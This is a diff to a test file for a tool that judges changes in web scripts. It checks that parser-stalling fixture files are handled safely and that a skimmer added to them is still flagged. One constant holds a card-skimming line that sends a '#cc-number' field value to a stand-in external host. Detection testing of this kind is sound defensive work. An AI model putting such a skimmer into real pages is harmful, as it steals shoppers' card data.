@@ -3,12 +3,18 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { changeVerdicts, compareScripts } from '@tillwatch/core/changes'
 import { judgeScript, LOOKED_AT_MAX } from '@tillwatch/core/detection'
+import { atDepth } from '@tillwatch/testbed/depth'
 import { hostileFiles } from '@tillwatch/testbed/hostile-files'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { judgeFiles } from '../../src/inspect/judge-files.ts'
 
 const folder = mkdtempSync(join(tmpdir(), 'tillwatch-hostile-'))
-const names = Object.keys(hostileFiles)
+/** Each takes a second or more. One of each kind stays in the short run. */
+const longest = [
+  ...['many-closures.js', 'endless-generators.js', 'rotations.js', 'sorted-lists.js', 'endless-loop.js', 'deep-labels.js'],
+  ...['line-50-mb-of-numbers.js', 'line-7-mb-of-numbers.js', 'line-7-mb-of-backslashes.js', 'many-functions.js', 'many-names.js'],
+]
+const names = Object.keys(hostileFiles).filter((name) => atDepth(!longest.includes(name), true))
 const at = (name: string) => join(folder, name)
 const textOf = (name: string) => hostileFiles[name]!().toString('utf8')
 const thief = `\n;document.querySelector('#cc-number').onchange = function () { new Image().src = 'https://collect.stranger-shop.example/?d=' + this.value }\n`
@@ -21,7 +27,7 @@ beforeAll(() => {
 afterAll(() => rmSync(folder, { recursive: true, force: true }))
 
 describe('files that were made to crash or stall their reader', () => {
-  it('are each judged in a thread that comes through, and change nothing of it', { timeout: 400_000 }, async () => {
+  it('are each judged in a thread that comes through, and change nothing of it', async () => {
     const judged = await judgeFiles(names.map(at), {
       timeoutMs: 120_000,
       signal: new AbortController().signal,
@@ -40,16 +46,12 @@ describe('files that were made to crash or stall their reader', () => {
     expect(verdictOf('fooled-reader.js')).toBe('benign')
   })
 
-  it.each(names.filter((name) => textOf(name).length < comparedMax))(
-    'do not hide a thief that is added to %s',
-    { timeout: 200_000 },
-    (name) => {
-      const text = textOf(name)
-      for (const later of [text + thief, thief + text]) {
-        const { verdict } = compareScripts(text, later, { judge: judgeScript })
-        expect(changeVerdicts.slice(changeVerdicts.indexOf('capability'))).toContain(verdict)
-      }
-      expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false)
-    },
-  )
+  it.each(names.filter((name) => textOf(name).length < comparedMax))('do not hide a thief that is added to %s', (name) => {
+    const text = textOf(name)
+    for (const later of [text + thief, thief + text]) {
+      const { verdict } = compareScripts(text, later, { judge: judgeScript })
+      expect(changeVerdicts.slice(changeVerdicts.indexOf('capability'))).toContain(verdict)
+    }
+    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false)
+  })
 })
